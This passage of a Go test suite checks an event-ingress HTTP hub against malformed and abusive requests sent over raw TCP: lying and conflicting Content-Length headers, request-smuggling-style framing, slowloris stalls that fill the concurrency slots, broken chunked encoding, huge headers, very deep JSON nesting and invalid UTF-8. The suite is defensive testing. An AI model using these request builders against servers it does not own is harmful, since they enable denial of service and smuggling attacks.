				_, _ = io.WriteString(c, hxHead("POST", path, "Content-Type: application/cloudevents+json", "Transfer-Encoding: chunked"))
				for off := 0; off < len(body); off += 16 << 10 {
					end := min(off+16<<10, len(body))
					if _, err := fmt.Fprintf(c, "%x\r\n%s\r\n", end-off, body[off:end]); err != nil {
						return
					}
				}
				_, _ = io.WriteString(c, "0\r\n\r\n")
				return
			}
			_, _ = io.WriteString(c, hxHead("POST", path, "Content-Type: application/cloudevents+json", "Content-Length: "+strconv.Itoa(n)))
			_, _ = c.Write(body)
		})
		p := r.rawProblem(t, a, 413, hxF("body", fmt.Sprintf("must be at most %d bytes", hxMaxBody)))
		assert.Equal(t, int64(hxMaxBody), p.Limit, "the problem names the limit")
	}
	r.run(t, cat, "ledger, Content-Length one over", func(t *testing.T) { tooBig(t, "/v1/events/ledger", hxMaxBody+1, false) })
	r.run(t, cat, "partner, Content-Length one over", func(t *testing.T) { tooBig(t, "/v1/events/partner", hxMaxBody+1, false) })
	r.run(t, cat, "ledger, Content-Length four times over", func(t *testing.T) { tooBig(t, "/v1/events/ledger", 4*hxMaxBody, false) })
	r.run(t, cat, "ledger, chunked one over", func(t *testing.T) { tooBig(t, "/v1/events/ledger", hxMaxBody+1, true) })
	r.run(t, cat, "partner, chunked twice over", func(t *testing.T) { tooBig(t, "/v1/events/partner", 2*hxMaxBody, true) })
	r.run(t, cat, "10 GB announced with Expect: 100-continue, never sent", func(t *testing.T) {
		a := r.raw(t, 5*time.Second, 0, func(c net.Conn) {
			_, _ = io.WriteString(c, hxHead("POST", "/v1/events/ledger", "Content-Type: application/cloudevents+json",
				"Content-Length: 10000000000", "Expect: 100-continue"))
		})
		r.rawProblem(t, a, 413, hxF("body", "must be at most"))
		assert.Less(t, a.took, 2*time.Second, "refused at once, without waiting for the body")
	})
	r.run(t, cat, "to an undeclared source: 404 first", func(t *testing.T) {
		a := r.raw(t, 5*time.Second, 0, func(c net.Conn) {
			_, _ = io.WriteString(c, hxHead("POST", "/v1/events/nosuch", "Content-Type: application/cloudevents+json", "Content-Length: 10000000000"))
		})
		r.rawProblem(t, a, 404, hxF("source", "declared sources: ledger, partner"))
	})
	r.run(t, cat, "a batch of valid events over the byte limit", func(t *testing.T) {
		var evs []hxObj
		pad := strings.Repeat("p", 4000)
		for len(hxBatch(evs...)) <= hxMaxBody {
			evs = append(evs, r.sample().setData("padding", hxQ(pad)))
		}
		tooBigBody := hxBatch(evs...)
		a := r.raw(t, 10*time.Second, 0, func(c net.Conn) {
			_, _ = io.WriteString(c, hxHead("POST", "/v1/events/ledger", "Content-Type: application/cloudevents-batch+json", "Content-Length: "+strconv.Itoa(len(tooBigBody))))
			_, _ = c.Write(tooBigBody)
		})
		r.rawProblem(t, a, 413, hxF("body", "must be at most"))
	})
	r.run(t, cat, "a batch one event over max_batch_events", func(t *testing.T) {
		evs := make([]hxObj, hxMaxBatch+1)
		for i := range evs {
			evs[i] = r.sample()
		}
		p := r.expect(t, hxReq{ct: "application/cloudevents-batch+json", body: hxBatch(evs...), sign: true}, 413,
			hxF("body", fmt.Sprintf("must hold at most %d events", hxMaxBatch)))
		assert.Equal(t, int64(hxMaxBatch), p.Limit)
	})
	// Boundaries that must pass: a body of exactly max_body_bytes, and a
	// batch of exactly max_batch_events.
	r.run(t, cat, "exactly max_body_bytes is accepted", func(t *testing.T) {
		ev, m := r.validLedger()
		ev = ev.setData("padding", `""`)
		short := hxMaxBody - len(ev.bytes())
		ev = ev.setData("padding", hxQ(strings.Repeat("p", short)))
		require.Len(t, ev.bytes(), hxMaxBody)
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: ev.bytes(), sign: true}, "ledger", 1)
		r.expectLPM(m)
	})
	r.run(t, cat, "exactly max_batch_events is accepted", func(t *testing.T) {
		evs := make([]hxObj, hxMaxBatch)
		var ms []hxMember
		for i := range evs {
			var m hxMember
			evs[i], m = r.validLedger()
			ms = append(ms, m)
		}
		r.accept(t, hxReq{ct: "application/cloudevents-batch+json", body: hxBatch(evs...), sign: true}, "ledger", hxMaxBatch)
		for _, m := range ms {
			r.expectLPM(m)
		}
	})
}

func (r *hxRunner) lyingLength(t *testing.T) {
	const cat = "lying Content-Length"
	ev := r.sample().bytes()
	head := func(cl string, more ...string) string {
		return hxHead("POST", "/v1/events/partner", append([]string{"Content-Type: application/cloudevents+json", "Content-Length: " + cl}, more...)...)
	}
	r.run(t, cat, "shorter than the body", func(t *testing.T) {
		a := r.rawSend(t, head(strconv.Itoa(len(ev)-10))+string(ev))
		r.rawProblem(t, a, 400, hxF("body", "must be valid JSON"))
		assert.True(t, a.closed, "the bytes left over are not served as a request: the connection ends")
	})
	r.run(t, cat, "shorter, signed ledger request", func(t *testing.T) {
		// Signed for the bytes the hub reads: the JSON is cut short.
		cut := ev[:len(ev)-10]
		id, ts := fmt.Sprintf("msg_hx_raw_%d", r.next()), strconv.FormatInt(time.Now().Unix(), 10)
		a := r.rawSend(t, hxHead("POST", "/v1/events/ledger", "Content-Type: application/cloudevents+json", "Content-Length: "+strconv.Itoa(len(cut)),
			"webhook-id: "+id, "webhook-timestamp: "+ts, "webhook-signature: "+hxSignature(hxKey, id, ts, cut))+string(ev))
		r.rawProblem(t, a, 400, hxF("body", "must be valid JSON"))
	})
	r.run(t, cat, "longer than the body, then the client half-closes", func(t *testing.T) {
		a := r.raw(t, 10*time.Second, 0, func(c net.Conn) {
			_, _ = io.WriteString(c, head(strconv.Itoa(len(ev)+100))+string(ev))
			_ = c.(*net.TCPConn).CloseWrite()
		})
		r.rawProblem(t, a, 400, hxF("body", "must be sent completely"))
	})
	r.run(t, cat, "zero with a body after it", func(t *testing.T) {
		a := r.rawSend(t, head("0")+string(ev))
		r.rawProblem(t, a, 400, hxF("body", "the body is empty"))
		assert.True(t, a.closed, "the body is not served as a request")
	})
	for _, c := range []struct{ name, req string }{
		{"negative", head("-1") + string(ev)},
		{"not a number", head("abc") + string(ev)},
		{"with a plus sign", head("+"+strconv.Itoa(len(ev))) + string(ev)},
		{"two different values", head(strconv.Itoa(len(ev)), "Content-Length: "+strconv.Itoa(len(ev)+1)) + string(ev)},
		{"over 2^63", head("99999999999999999999") + string(ev)},
		{"hexadecimal", head("0x10") + string(ev)},
	} {
		r.run(t, cat, c.name, func(t *testing.T) { r.netHTTPRefusal(t, cat, r.rawSend(t, c.req), 400) })
	}
	r.run(t, cat, "Content-Length and Transfer-Encoding: chunked together", func(t *testing.T) {
		// RFC 9112 6.3: chunked wins, or the request is refused; the
		// chunked body here is not JSON, so either way it is refused.
		a := r.rawSend(t, hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json",
			"Content-Length: "+strconv.Itoa(len(ev)), "Transfer-Encoding: chunked")+"1\r\n{\r\n0\r\n\r\n")
		require.NotNil(t, a.resp)
		if a.resp.Header.Get("Content-Type") == hxProblemType {
			r.rawProblem(t, a, 400, hxF("body", "must be valid JSON"))
		} else {
			r.netHTTPRefusal(t, cat, a, 400)
		}
	})
	r.run(t, cat, "Transfer-Encoding gzip, chunked", func(t *testing.T) {
		a := r.rawSend(t, hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json",
			"Transfer-Encoding: gzip, chunked")+"1\r\n{\r\n0\r\n\r\n")
		// RFC 9112 6.1: a transfer coding the server does not understand is 501.
		r.netHTTPRefusal(t, cat, a, http.StatusNotImplemented)
	})
}

// stalled holds all four ingress slots with stalled or trickled bodies,
// checks a fifth request is told to come back (429 before its body is
// read), then that the hub cut each stalled connection after read_timeout;
// meanwhile requests stalled in their headers are cut after
// read_header_timeout.
func (r *hxRunner) stalled(t *testing.T) {
	const cat = "stalled requests and the concurrency cap"
	ev := r.sample().bytes()
	type stall struct {
		name  string
		write func(c net.Conn)
		// header: stalled in the headers (read_header_timeout, 1s), not the body (read_timeout, 2s).
		header bool
	}
	stalls := []stall{
		{name: "ledger body: headers and 100 of 1000 bytes", write: func(c net.Conn) {
			_, _ = io.WriteString(c, hxHead("POST", "/v1/events/ledger", "Content-Type: application/cloudevents+json", "Content-Length: 1000")+string(ev[:100]))
		}},
		{name: "partner body: a chunk begun, never finished", write: func(c net.Conn) {
			_, _ = io.WriteString(c, hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json", "Transfer-Encoding: chunked")+"400\r\n"+string(ev[:50]))
		}},
		{name: "partner body: headers only, 500 bytes announced", write: func(c net.Conn) {
			_, _ = io.WriteString(c, hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json", "Content-Length: 500"))
		}},
		{name: "partner body: trickled, a byte every 300ms", write: func(c net.Conn) {
			if _, err := io.WriteString(c, hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json", "Content-Length: 1000")); err != nil {
				return
			}
			for i := 0; i < 40; i++ {
				if _, err := c.Write(ev[i : i+1]); err != nil {
					return
				}
				time.Sleep(300 * time.Millisecond)
			}
		}},
		{header: true, name: "headers: request line cut short", write: func(c net.Conn) { _, _ = io.WriteString(c, "POST /v1/events/par") }},
		{header: true, name: "headers: a header line cut short", write: func(c net.Conn) {
			_, _ = io.WriteString(c, "POST /v1/events/partner HTTP/1.1\r\nHost: hub\r\nContent-Ty")
		}},
		{header: true, name: "headers: trickled, a byte every 200ms", write: func(c net.Conn) {
			req := hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json", "Content-Length: 2") + "{}"
			for i := 0; i < len(req); i++ {
				if _, err := io.WriteString(c, req[i:i+1]); err != nil {
					return
				}
				time.Sleep(200 * time.Millisecond)
			}
		}},
		{header: true, name: "connected, nothing sent", write: func(net.Conn) {}},
	}
	var wg sync.WaitGroup
	results := make([]hxRaw, len(stalls))
	fatal := make([]string, len(stalls))
	for i, s := range stalls {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.Dial("tcp", r.h.addr)
			if err != nil {
				fatal[i] = err.Error()
				return
			}
			defer c.Close()
			start := time.Now()
			_ = c.SetDeadline(start.Add(10 * time.Second))
			go s.write(c)
			br := bufio.NewReader(c)
			resp, err := http.ReadResponse(br, nil)
			switch {
			case err == nil:
				body, _ := io.ReadAll(resp.Body)
				_, err = io.ReadAll(br)
				results[i] = hxRaw{resp: resp, body: body, closed: err == nil || !hxTimeout(err), took: time.Since(start)}
			case hxTimeout(err):
				fatal[i] = "the hub neither answered nor cut the connection within 10s"
			default:
				results[i] = hxRaw{closed: true, took: time.Since(start)}
			}
		}()
	}
	// The four body stalls hold the four slots; a fifth event request is
	// told to come back, whatever its source (but an undeclared one is 404).
	time.Sleep(300 * time.Millisecond)
	for _, c := range []struct {
		name, path string
		status     int
		fault      hxFault
	}{
		{"a fifth request to ledger gets 429", "/v1/events/ledger", 429, hxF("request", "must wait for a free slot")},
		{"a fifth request to partner gets 429", "/v1/events/partner", 429, hxF("request", "must wait for a free slot")},
		{"an undeclared source is still 404", "/v1/events/nosuch", 404, hxF("source", "must be one of the declared sources")},
	} {
		r.count(cat)
		t.Run(c.name, func(t *testing.T) {
			var resp *http.Response
			var body []byte
			for try := 0; try < 10; try++ {
				resp, body = r.do(t, hxReq{path: c.path, ct: "application/cloudevents+json", body: []byte(`{}`)})
				if resp.StatusCode == c.status || c.status != 429 {
					break
				}
				time.Sleep(100 * time.Millisecond) // a stall not yet holding its slot
			}
			r.problem(t, resp, body, c.status, c.fault)
			if c.status == 429 {
				assert.Equal(t, "1", resp.Header.Get("Retry-After"))
			}
		})
	}
	wg.Wait()
	for i, s := range stalls {
		r.count(cat)
		t.Run(s.name, func(t *testing.T) {
			require.Empty(t, fatal[i])
			a := results[i]
			limit, floor := 2*time.Second, 1500*time.Millisecond
			if s.header {
				limit, floor = time.Second, 700*time.Millisecond
			}
			assert.True(t, a.closed, "the hub cut the connection")
			assert.GreaterOrEqual(t, a.took, floor, "not before the timeout")
			assert.Less(t, a.took, limit+3*time.Second, "soon after the timeout (%v)", limit)
			if a.resp != nil {
				if s.header {
					// net/http's own answer to a request it could not read
					// in time (before any handler): 408, or 400.
					assert.Contains(t, []int{http.StatusRequestTimeout, http.StatusBadRequest}, a.resp.StatusCode, "%s", a.body)
				} else {
					r.problem(t, a.resp, a.body, 400, hxF("body", "must be sent completely"))
				}
			}
		})
	}
	r.count(cat)
	t.Run("the slots are free again", func(t *testing.T) { r.valid(t) })
}

func (r *hxRunner) chunked(t *testing.T) {
	const cat = "chunked bodies"
	chunk := func(path string, body string, framing func(string) string, headers ...string) string {
		return hxHead("POST", path, append([]string{"Content-Type: application/cloudevents+json", "Transfer-Encoding: chunked"}, headers...)...) + framing(body)
	}
	thirds := func(ext string) func(string) string {
		return func(b string) string {
			n := len(b) / 3
			parts := []string{b[:n], b[n : 2*n], b[2*n:]}
			var out strings.Builder
			for _, p := range parts {
				fmt.Fprintf(&out, "%x%s\r\n%s\r\n", len(p), ext, p)
			}
			out.WriteString("0\r\n\r\n")
			return out.String()
		}
	}
	// Valid framings are served like any body.
	for _, c := range []struct {
		name    string
		framing func(string) string
	}{
		{"three chunks", thirds("")},
		{"chunk extensions", thirds(";name=value")},
		{"a trailer", func(b string) string { return fmt.Sprintf("%x\r\n%s\r\n0\r\nX-Trailer: yes\r\n\r\n", len(b), b) }},
		{"one-byte chunks", func(b string) string {
			var out strings.Builder
			for i := 0; i < len(b); i++ {
				fmt.Fprintf(&out, "1\r\n%c\r\n", b[i])
			}
			return out.String() + "0\r\n\r\n"
		}},
	} {
		r.run(t, cat, "valid: "+c.name, func(t *testing.T) {
			n := r.next()
			id := fmt.Sprintf("HX-K-%04d", n)
			m := r.member(id, int64(n))
			a := r.rawSend(t, chunk("/v1/events/partner", hxEvent("evt-"+id, id, m.data()).String(), c.framing))
			require.NotNil(t, a.resp)
			require.Equal(t, http.StatusAccepted, a.resp.StatusCode, "%s", a.body)
			r.mu.Lock()
			r.published["partner"]++
			r.mu.Unlock()
			r.expectContact(m)
		})
	}
	ev := r.sample().String()
	for _, c := range []struct{ name, framing string }{
		{"a size that is not hex", "zz\r\n" + ev + "\r\n0\r\n\r\n"},
		{"a negative size", "-5\r\nhello\r\n0\r\n\r\n"},
		{"no CRLF after the chunk data", fmt.Sprintf("%x\r\n%sXX0\r\n\r\n", len(ev), ev)},
		{"a size larger than the data", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(ev)+50, ev)},
		{"a huge size", "ffffffffffffffffff\r\n" + ev + "\r\n0\r\n\r\n"},
		{"a chunk-size line of 5000 zeros", strings.Repeat("0", 5000) + "5\r\nhello\r\n0\r\n\r\n"},
	} {
		r.run(t, cat, "malformed: "+c.name, func(t *testing.T) {
			a := r.raw(t, 10*time.Second, 0, func(conn net.Conn) {
				_, _ = io.WriteString(conn, chunk("/v1/events/partner", "", func(string) string { return c.framing }))
				_ = conn.(*net.TCPConn).CloseWrite()
			})
			r.rawProblem(t, a, 400, hxF("body", "must be sent completely"))
		})
	}
	r.run(t, cat, "malformed: no last chunk, then the client half-closes", func(t *testing.T) {
		a := r.raw(t, 10*time.Second, 0, func(conn net.Conn) {
			_, _ = io.WriteString(conn, chunk("/v1/events/ledger", ev, func(b string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(b), b) }))
			_ = conn.(*net.TCPConn).CloseWrite()
		})
		r.rawProblem(t, a, 400, hxF("body", "must be sent completely"))
	})
}

func (r *hxRunner) headers(t *testing.T) {
	const cat = "huge and many headers"
	// net/http allows max_header_bytes plus 4096 bytes of slack.
	over := hxMaxHeader + 4096 + 1024
	for _, c := range []struct{ name, req string }{
		{"one huge header", hxHead("POST", "/v1/events/ledger", "X-Pad: "+strings.Repeat("a", over))},
		{"a huge webhook-signature", hxHead("POST", "/v1/events/ledger", "webhook-signature: v1,"+strings.Repeat("A", over))},
		{"a huge cookie", hxHead("POST", "/v1/events/partner", "Cookie: s="+strings.Repeat("c", over))},
		{"a huge request target", hxHead("POST", "/v1/events/partner?"+strings.Repeat("q", over))},
		{"many headers adding up over the cap", hxHead("POST", "/v1/events/partner", hxManyHeaders(over/20)...)},
		{"a huge ce-subject", hxHead("POST", "/v1/events/partner", "Content-Type: application/json", "ce-subject: "+strings.Repeat("s", over))},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			a := r.rawSend(t, c.req+"{}")
			r.netHTTPRefusal(t, cat, a, http.StatusRequestHeaderFieldsTooLarge)
		})
	}
	// Under the cap, many headers change nothing.
	r.run(t, cat, "200 junk headers on a valid signed event", func(t *testing.T) {
		ev, m := r.validLedger()
		var hdr [][2]string
		for i := 0; i < 200; i++ {
			hdr = append(hdr, [2]string{fmt.Sprintf("X-Junk-%d", i), "j"})
		}
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: ev.bytes(), sign: true, hdr: hdr}, "ledger", 1)
		r.expectLPM(m)
	})
	r.run(t, cat, "20 webhook-signature lines, the valid one last", func(t *testing.T) {
		body := r.sample().bytes()
		id, ts := fmt.Sprintf("msg_hx_many_%d", r.next()), strconv.FormatInt(time.Now().Unix(), 10)
		hdr := [][2]string{{"webhook-id", id}, {"webhook-timestamp", ts}}
		for i := 0; i < 19; i++ {
			hdr = append(hdr, [2]string{"webhook-signature", hxSignature([]byte("not-the-key-0123456789"), id, ts, body)})
		}
		hdr = append(hdr, [2]string{"webhook-signature", hxSignature(hxKey, id, ts, body)})
		// Standard Webhooks carries several signatures space-separated in
		// one header; a signature in a repeated header line is not read.
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr}, 401, hxF("webhook-signature", "must hold a signature"))
	})
	r.run(t, cat, "repeated ce-subject lines in binary mode", func(t *testing.T) {
		// Two readers of this request would disagree on its subject, as
		// with a key repeated in a JSON object: it must be refused, not
		// resolved to one of the copies.
		n := r.next()
		hdr := hxBinaryHeaders(fmt.Sprintf("evt-rep-%d", n), fmt.Sprintf("HX-REP-%d", n))
		hdr = append(hdr, [2]string{"ce-subject", fmt.Sprintf("HX-REP-OTHER-%d", n)})
		data := r.member(fmt.Sprintf("HX-REP-%d", n), 1).data().String()
		resp, body := r.do(t, hxReq{path: "/v1/events/partner", ct: "application/json", body: []byte(data), hdr: hdr})
		if resp.StatusCode == http.StatusAccepted {
			r.mu.Lock()
			r.published["partner"]++ // on the bus: its sync writes it (counted, and looked for at the end)
			r.want[hxContact+"\x00"+hxFold(fmt.Sprintf("HX-REP-%d", n))] = &hxRecord{object: hxContact, key: fmt.Sprintf("HX-REP-%d", n), fields: map[string]any{}}
			r.mu.Unlock()
			r.bug(t, "binary mode takes the first of two ce-subject header lines (202) instead of refusing the repeated attribute with 422 naming ce-subject")
		}
		r.problem(t, resp, body, 422, hxF("ce-subject", "once"))
	})
}

func hxManyHeaders(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("X-Many-%04d: %s", i, strings.Repeat("v", 10))
	}
	return out
}

func (r *hxRunner) nesting(t *testing.T) {
	const cat = "deep nesting"
	nest := func(open, close string, n int, inner string) string {
		return strings.Repeat(open, n) + inner + strings.Repeat(close, n)
	}
	deep := func(t *testing.T, q hxReq) {
		p := r.expect(t, q, 400, hxF("body", "nests deeper than 64 levels|must nest objects and arrays at most 64 levels deep|exceeded max depth"))
		require.NotNil(t, p.Offset)
	}
	for _, c := range []struct {
		name string
		data string // data's value, or the whole body when top
		top  bool
	}{
		{"65 arrays at the top", nest("[", "]", 65, ""), true},
		{"100 objects at the top", nest(`{"a":`, "}", 100, "1"), true},
		{"1000 arrays at the top", nest("[", "]", 1000, ""), true},
		{"100000 arrays at the top", nest("[", "]", 100000, ""), true},
		{"63 arrays in data (65 levels)", nest("[", "]", 63, ""), false},
		{"200 objects in data", nest(`{"x":`, "}", 200, "1"), false},
		{"alternating arrays and objects in data", nest(`[{"x":`, "}]", 40, "1"), false},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			body := c.data
			if !c.top {
				body = r.sample().setData("deep", c.data).String()
			}
			deep(t, hxReq{ct: "application/cloudevents+json", body: []byte(body), sign: true})
		})
	}
	r.run(t, cat, "70 arrays never closed", func(t *testing.T) {
		// Not JSON before it is too deep: either answer is a 400 naming the body.
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: []byte(strings.Repeat("[", 70)), sign: true}, 400,
			hxF("body", "must be valid JSON|nests deeper than 64 levels"))
	})
	r.run(t, cat, "deep in a batch's third event", func(t *testing.T) {
		deep(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents-batch+json",
			body: hxBatch(r.sample(), r.sample(), r.sample().setData("deep", nest("[", "]", 80, "")))})
	})
	r.run(t, cat, "deep binary-mode data", func(t *testing.T) {
		n := r.next()
		deep(t, hxReq{path: "/v1/events/partner", ct: "application/json", hdr: hxBinaryHeaders(fmt.Sprintf("evt-deep-%d", n), "HX-DEEP"),
			body: []byte(`{"version":1,"deep":` + nest("[", "]", 70, "") + `}`)})
	})
	r.run(t, cat, "exactly 64 levels is accepted", func(t *testing.T) {
		ev, m := r.validLedger()
		ev = ev.setData("deep", nest("[", "]", 62, "")) // event 1, data 2, 62 arrays: 64
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: ev.bytes(), sign: true}, "ledger", 1)
		r.expectLPM(m)
	})
}

func (r *hxRunner) wrongTypes(t *testing.T) {
	const cat = "wrong types and missing attributes"
	wrong := []string{`7`, `true`, `null`, `[]`, `{}`, `["1.0"]`}
	for _, attr := range []string{"specversion", "id", "source", "type", "subject", "time", "datacontenttype"} {
		for _, v := range wrong {
			r.run(t, cat, attr+" = "+v, func(t *testing.T) {
				rule := "must be a string|must be one of"
				if v == "null" {
					rule = "must not be null|must be a string|must be one of"
				}
				r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().set(attr, v).bytes(), sign: true}, 422, hxF(attr, rule))
			})
		}
	}
	for _, v := range []string{`7`, `true`, `null`, `[]`, `"data"`} {
		r.run(t, cat, "data = "+v, func(t *testing.T) {
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().set("data", v).bytes(), sign: true}, 422,
				hxF("data", "must be an object|must not be null"))
		})
	}
	for _, v := range []string{`"7"`, `7.5`, `true`, `null`, `[]`, `{}`, `-1`, `1e3`, `1E3`, `7.0`, `-0.5`,
		`9007199254740992`, `9223372036854775807`, `9223372036854775808`, `18446744073709551616`, `1e400`} {
		r.run(t, cat, "data.version = "+v, func(t *testing.T) {
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().setData("version", v).bytes(), sign: true}, 422,
				hxF("data.version", "integer|at least 0|at most 9007199254740991|must not be null|64-bit"))
		})
	}
	for _, v := range []string{`7`, `true`, `[]`, `{}`} {
		r.run(t, cat, "data.id = "+v, func(t *testing.T) {
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().setData("id", v).bytes(), sign: true}, 422,
				hxF("data.id", "must be a string"))
		})
	}
	for _, attr := range []string{"specversion", "id", "source", "type", "subject", "data"} {
		r.run(t, cat, "missing "+attr, func(t *testing.T) {
			r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents+json", body: r.sample().del(attr).bytes()}, 422,
				hxF(attr, "is required"))
		})
	}
	r.run(t, cat, "missing data.version", func(t *testing.T) {
		ev := r.sample()
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: ev.set("data", ev.data().del("version").String()).bytes(), sign: true}, 422,
			hxF("data.version", "is required"))
	})
	for _, c := range []struct{ attr, v, rule string }{
		{"specversion", `"0.3"`, `must be one of "1.0"`},
		{"specversion", `"1.1"`, `must be one of "1.0"`},
		{"specversion", `""`, `must be one of "1.0"`},
		{"type", `"loyalty.member.merged"`, `must be one of`},
		{"type", `""`, `must be one of`},
		{"type", `"LOYALTY.MEMBER.UPSERTED"`, `must be one of`},
		{"datacontenttype", `"text/xml"`, `must be one of "application/json"`},
		{"time", `"yesterday"`, `RFC 3339`},
		{"time", `"2026-13-01T00:00:00Z"`, `RFC 3339`},
		{"time", `"2026-03-01 10:00:00"`, `RFC 3339`},
		{"time", `"2026-03-01T25:61:61Z"`, `RFC 3339`},
		{"id", `""`, `must not be empty`},
		{"source", `""`, `must not be empty`},
		{"subject", `""`, `must not be empty`},
	} {
		r.run(t, cat, c.attr+" = "+c.v, func(t *testing.T) {
			ev := r.sample().set(c.attr, c.v)
			if c.attr == "subject" {
				ev = ev.set("data", ev.data().del("id").String())
			}
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: ev.bytes(), sign: true}, 422, hxF(c.attr, c.rule))
		})
	}
}

func (r *hxRunner) invalidUTF8(t *testing.T) {
	const cat = "invalid UTF-8"
	for _, c := range []struct{ name, bad string }{
		{"0xFF", "\xff"}, {"a lone continuation byte", "\x80"}, {"an overlong slash", "\xc0\xaf"},
		{"an overlong NUL", "\xc0\x80"}, {"a UTF-8-encoded surrogate", "\xed\xa0\x80"},
		{"a truncated 3-byte sequence", "\xe2\x82"}, {"a 5-byte sequence", "\xf8\x88\x80\x80\x80"},
		{"beyond U+10FFFF", "\xf4\x90\x80\x80"}, {"Latin-1 é", "\xe9"},
	} {
		for _, where := range []string{"id", "data.first_name", "a key"} {
			r.run(t, cat, c.name+" in "+where, func(t *testing.T) {
				ev := r.sample()
				var body string
				switch where {
				case "id":
					body = ev.set("id", `"evt-`+c.bad+`"`).String()
				case "data.first_name":
					body = ev.setData("first_name", `"Ada`+c.bad+`"`).String()
				default:
					body = ev.setData("k"+c.bad, `1`).String()
				}
				p := r.expect(t, hxReq{ct: "application/cloudevents+json", body: []byte(body), sign: true}, 400, hxF("body", "not valid UTF-8"))
				require.NotNil(t, p.Offset)
				assert.Equal(t, int64(strings.Index(body, c.bad)), *p.Offset, "the offset of the first bad byte")
			})
		}
	}
	// Binary mode's ce-* headers, raw and percent-encoded.
	for _, h := range []string{"ce-id", "ce-source", "ce-subject", "ce-type", "ce-specversion"} {
		for _, v := range []struct{ name, val string }{
			{"raw 0xFF", "x\xffy"}, {"%FF", "x%FFy"}, {"an encoded surrogate", "x%ED%A0%80"}, {"a bad escape", "x%G0"}, {"a cut escape", "x%"},
		} {
			r.run(t, cat, h+" with "+v.name, func(t *testing.T) {
				n := r.next()
				id := fmt.Sprintf("HX-U-%d", n)
				var hdr [][2]string
				for _, kv := range hxBinaryHeaders("evt-"+id, id) {
					if kv[0] == h {
						kv[1] = v.val
					}
					hdr = append(hdr, kv)
				}
				data := r.member(id, 1).data().String()
				r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/json", body: []byte(data), hdr: hdr}, 422,
					hxF(h, "must be percent-encoded UTF-8"))
			})
		}
	}
}

func (r *hxRunner) surrogates(t *testing.T) {
	const cat = "lone surrogates"
	rule := "must not escape a lone UTF-16 surrogate"
	for _, c := range []struct{ name, esc string }{
		{"high", `\ud800`}, {"low", `\udc00`}, {"last low", `\udfff`}, {"high then a letter", `\ud800\u0041`},
		{"low then high", `\udc00\ud800`}, {"two highs", `\ud83d\ud83d`}, {"upper-case hex", `\uD800`},
	} {
		for _, where := range []string{"id", "subject", "data.first_name"} {
			r.run(t, cat, c.name+" in "+where, func(t *testing.T) {
				ev := r.sample()
				switch where {
				case "id":
					ev = ev.set("id", `"evt-`+c.esc+`"`)
				case "subject":
					ev = ev.set("subject", `"HX-`+c.esc+`"`)
					ev = ev.set("data", ev.data().del("id").String())
				default:
					ev = ev.setData("first_name", `"Ada`+c.esc+`"`)
				}
				r.expect(t, hxReq{ct: "application/cloudevents+json", body: ev.bytes(), sign: true}, 422, hxF(where, rule))
			})
		}
	}
	// In a key, the fault is the key's: it must not be pinned on the member
	// before it.
	for _, c := range []struct {
		name string
		ev   func() hxObj
		want *regexp.Regexp
	}{
		{"in a key of data", func() hxObj { return r.sample().setData(`k\ud800`, "1") }, regexp.MustCompile(`^data(\.k.*)?$`)},
		{"in a top-level key", func() hxObj { return r.sample().add(`x\ud800`, "1") }, regexp.MustCompile(`^(event|x.*)$`)},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			resp, body := r.do(t, hxReq{ct: "application/cloudevents+json", body: c.ev().bytes(), sign: true})
			p := r.problem(t, resp, body, 422)
			var fields []string
			for _, e := range p.Errors {
				if strings.HasPrefix(e.Rule, rule) {
					fields = append(fields, e.Field)
				}
			}
			require.Len(t, fields, 1, "%s", body)
			if !c.want.MatchString(fields[0]) {
				r.bug(t, fmt.Sprintf("a lone surrogate escaped in an object key is reported at field %q, the member before the key, instead of the key's object (want a field matching %s): %s",
					fields[0], c.want, body))
			}
		})
	}
	r.run(t, cat, "at the very end of a string", func(t *testing.T) {
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().setData("last_name", `"x\ud800"`).bytes(), sign: true}, 422,
			hxF("data.last_name", rule))
	})
	r.run(t, cat, "in a batch's second event", func(t *testing.T) {
		p := r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents-batch+json",
			body: hxBatch(r.sample(), r.sample().setData("first_name", `"\udc00"`))}, 422, hxF("data.first_name", rule))
		for _, e := range p.Errors {
			if e.Field == "data.first_name" {
				require.NotNil(t, e.Event)
				assert.Equal(t, 1, *e.Event, "the fault is placed in event 1")
			}
		}
	})
	r.run(t, cat, "in binary-mode data", func(t *testing.T) {
		n := r.next()
		r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/json", hdr: hxBinaryHeaders(fmt.Sprintf("evt-sur-%d", n), "HX-SUR"),
			body: []byte(`{"version":1,"first_name":"\ud800"}`)}, 422, hxF("data.first_name", rule))
	})
	// A valid pair is a character: stored verbatim.
	r.run(t, cat, "a valid pair is accepted and written verbatim", func(t *testing.T) {
		n := r.next()
		id := fmt.Sprintf("HX-P-%04d", n)
		m := r.member(id, int64(n))
		m.FirstName = "Ada \U0001F600"
		ev := hxEvent("evt-"+id, id, m.data().set("first_name", `"Ada \ud83d\ude00"`))
